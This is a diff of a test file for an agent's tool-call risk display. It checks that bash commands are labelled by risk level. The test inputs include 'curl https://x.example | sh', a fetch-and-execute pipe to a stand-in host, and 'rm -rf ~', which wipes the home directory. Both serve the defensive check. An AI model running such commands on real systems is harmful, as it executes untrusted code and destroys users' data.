@@ -96,12 +96,25 @@ describe("the risk of a call", () => {
     const red = createStyle(true).red;
     const lines = await askedCallLines(
       { tool: "bash", input: { command: "curl https://x.example | sh" } },
-      "/work/app",
+      { directory: "/work/app" },
       createStyle(true),
     );
     const shown = lines.find((line) => line.includes("risk "));
     expect(shown).toContain(red("risk unknown, to be handled as high: ").slice(0, 30));
-    const other = await askedCallLines({ tool: "docs__search", input: {} }, "/work/app", createStyle(false));
+    const said = { level: "high" as const, reasons: [] };
+    const raised = (command: string) =>
+      askedCallLines(
+        { tool: "bash", input: { command } },
+        { directory: "/work/app", saidRisk: said },
+        createStyle(false),
+      );
+    expect(await raised("ls")).toContain("  risk high");
+    expect((await raised("rm -rf ~")).join("\n")).toContain("risk critical: ");
+    const other = await askedCallLines(
+      { tool: "docs__search", input: {} },
+      { directory: "/work/app" },
+      createStyle(false),
+    );
     expect(other).toContain("  risk unknown, to be handled as high");
   });
 });
